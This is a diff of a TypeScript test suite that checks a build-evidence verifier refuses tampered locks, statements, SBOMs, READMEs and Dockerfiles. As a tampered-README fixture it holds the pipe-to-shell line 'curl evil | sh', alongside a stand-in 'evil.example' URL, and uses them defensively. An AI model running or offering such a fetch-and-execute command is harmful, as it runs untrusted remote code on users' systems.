@@ -5,15 +5,27 @@ import { describe, expect, it } from 'vitest';
 import { sha256 } from '../../../src/hash.js';
 import type { Confirmed } from '../../../src/proof/confirm.js';
 import { openEvidence } from '../../../src/proof/evidence.js';
+import { evidenceReadme } from '../../../src/proof/evidenceReadme.js';
 import { type Lock, lockFile } from '../../../src/proof/lock.js';
 import { type SbomInput, sbomFile } from '../../../src/proof/sbom.js';
-import { statementFile, statementOf } from '../../../src/proof/statement.js';
+import { type Statement, statementFile, statementOf } from '../../../src/proof/statement.js';
 import { requireWhole } from '../../../src/proof/wholeEvidence.js';
 import { readArchive } from '../../../src/source/archive.js';
 import { gunzip } from '../../../src/source/gzip.js';
+import type { Source } from '../../../src/source/resolve.js';
+import { parseUpstream } from '../../../src/source/upstream.js';
 import { failureOf } from '../../support/failureOf.js';
-import { temporaryFolder } from '../../support/world.js';
-import { CARGO_LOCK, CRATE, SAMPLE, evidenceOf, imageOf, lockWith, writtenEvidence } from '../../support/proof.js';
+import { temporaryFolder, testDeps } from '../../support/world.js';
+import {
+  CARGO_LOCK,
+  CRATE,
+  SAMPLE,
+  UPSTREAM,
+  evidenceOf,
+  imageOf,
+  lockWith,
+  writtenEvidence,
+} from '../../support/proof.js';
 
 const DOCKERFILE = evidenceOf().dockerfile;
 const RECIPE = { dockerfile: sha256(DOCKERFILE), wrapper: '1.0.0', layout: 1 };
@@ -34,27 +46,32 @@ const CRATES = [
 ];
 const sbomsOf = (crates: SbomInput['crates']) =>
   new Map(
-    IMAGE.images.map(({ platform, manifest: { digest: manifest } }) => [
-      platform,
-      sbomFile({ lock: LOCK, platform, manifest, crates, toolchain: TOOLCHAIN, shell: 'e'.repeat(64) }),
-    ]),
+    IMAGE.images.map(({ platform, manifest: { digest: manifest } }) => {
+      const shell = sha256(`shell for ${platform}`);
+      return [platform, sbomFile({ lock: LOCK, platform, manifest, crates, toolchain: TOOLCHAIN, shell })];
+    }),
   );
 
 /** Evidence as a build writes it, with the source as the publisher has verified it; `spoil` changes the folder. */
 async function judge(
   spoil: (folder: string) => void = () => undefined,
   lock: Lock = LOCK,
-  { cargoLock = CARGO_LOCK, sboms = sbomsOf(CRATES) } = {},
+  { own = LOCK, cargoLock = CARGO_LOCK, sboms = sbomsOf(CRATES) } = {},
 ) {
   const folder = await writtenEvidence({ ...evidenceOf(lock, IMAGE), sboms });
   spoil(folder);
   const treeFolder = temporaryFolder();
   writeFileSync(join(treeFolder, 'Cargo.lock'), cargoLock);
+  const { commit, tree, epoch } = LOCK.inputs;
+  const source = {
+    ...{ upstream: parseUpstream(UPSTREAM), commit, tree, epoch, commitObject: SAMPLE.object },
+    at: ({ ref }: { ref: string }) => Promise.resolve({ name: ref, commit, tagObject: undefined }),
+  };
   const confirmed = {
-    source: { commitObject: SAMPLE.object },
-    tree: { folder: treeFolder, tarSha256: SAMPLE.tarSha256 },
+    source: source as unknown as Source,
+    tree: { folder: treeFolder, tarSha256: SAMPLE.tarSha256, version: '0.8.1' },
   } as Confirmed;
-  return requireWhole(await openEvidence(folder), confirmed, IMAGE);
+  return requireWhole(await openEvidence(folder), { lock: own, image: IMAGE, confirmed }, testDeps());
 }
 
 describe('evidence that is to be published', () => {
@@ -82,12 +99,72 @@ describe('evidence that is to be published', () => {
     await expect(judge(spoil, LOCK, { cargoLock, sboms })).resolves.toBeUndefined();
   });
 
+  it('may be of another run, whose lock has other facts', async () => {
+    await expect(judge(undefined, lockWith({ recipe: RECIPE }, { resolvedAt: 1, buildkit: 'v1' }))).resolves.toBe(
+      undefined,
+    );
+  });
+
+  it.each<[string, Lock, Lock, RegExp]>([
+    [
+      'of another build',
+      LOCK,
+      lockWith({ recipe: RECIPE, labels: { a: 'b' } }),
+      /^the evidence is of build key \w{64}, not of this image's \w{64}$/,
+    ],
+    ...[
+      [{ tarSha256: '0'.repeat(64) }, /^the lock cannot be replayed: tarSha256: the lock says "0000/],
+      [{ version: '0.9.0' }, /^the lock cannot be replayed: version: the lock says "0\.9\.0"/],
+      [{ archiveUrl: 'https://evil.example/x' }, /^the lock is not what upstream says: facts\.archiveUrl/],
+      [{ tagObject: 'e'.repeat(40) }, /^the lock is not what upstream says: facts\.tagObject/],
+    ].map(([facts, message]): [string, Lock, Lock, RegExp] => [
+      `whose lock has another ${Object.keys(facts as object).join()}`,
+      lockWith({ recipe: RECIPE }, facts as object),
+      LOCK,
+      message as RegExp,
+    ]),
+  ])('is refused when it is one %s', async (_, lock, own, message) => {
+    const failure = await failureOf(() => judge(undefined, lock, { own }));
+    expect(failure.kind).toBe('verification');
+    expect(failure.message).toMatch(message);
+  });
+
+  const say = (change: (statement: Statement) => void) => (folder: string) => {
+    const statement = statementOf(LOCK, IMAGE, []);
+    change(statement);
+    writeFileSync(join(folder, 'statement.json'), statementFile(statement));
+  };
   const write = (name: string, text: string | Buffer) => (folder: string) => writeFileSync(join(folder, name), text);
   it.each<[string, (folder: string) => void, RegExp]>([
     [
       'another README',
       write('README.md', 'run: curl evil | sh'),
       /^the evidence's README\.md is not what was verified/,
+    ],
+    [
+      'a statement about another image, and a README of that one',
+      (folder) => {
+        const other = statementOf(LOCK, imageOf(lockWith({ platforms: ['linux/amd64'] })), []);
+        writeFileSync(join(folder, 'statement.json'), statementFile(other));
+        writeFileSync(join(folder, 'README.md'), evidenceReadme(LOCK, other));
+      },
+      /^the statement in the evidence is not about this image: subject: found/,
+    ],
+    [
+      'a statement that says another ref',
+      say(({ predicate }) => (predicate.upstream.ref = 'refs/heads/other')),
+      /^the statement in the evidence is not about this image: predicate\.upstream\.ref: found/,
+    ],
+    [
+      'a statement that says more',
+      say((statement) => Object.assign(statement.predicate, { safe: true })),
+      /^the statement in the evidence is not about this image: predicate\.safe: found true/,
+    ],
+    [
+      'a statement in another form',
+      (folder) =>
+        writeFileSync(join(folder, 'statement.json'), JSON.stringify(statementOf(LOCK, IMAGE, []), undefined, 1)),
+      /^the evidence's statement\.json is not what was verified/,
     ],
     ['another Dockerfile', write('Dockerfile', 'FROM evil\n'), /^the evidence's Dockerfile is not what was verified/],
     ['another commit', write('commit', 'tree x\n'), /^the evidence's commit is not what was verified/],
@@ -122,7 +199,12 @@ describe('evidence that is to be published', () => {
     [
       'another SBOM',
       write('sbom-linux-amd64.cdx.json', '{}'),
-      /^format of the SBOM of linux\/amd64: expected CycloneDX/,
+      /^dependencies of the SBOM of linux\/amd64: expected a list/,
+    ],
+    [
+      'the SBOM of another platform',
+      write('sbom-linux-amd64.cdx.json', sbomsOf(CRATES).get('linux/arm64') ?? ''),
+      /^the SBOM of linux\/amd64 is not what a build writes: components\[0\]\.hashes\[0\]\.content: found/,
     ],
     [
       'a link to a file',
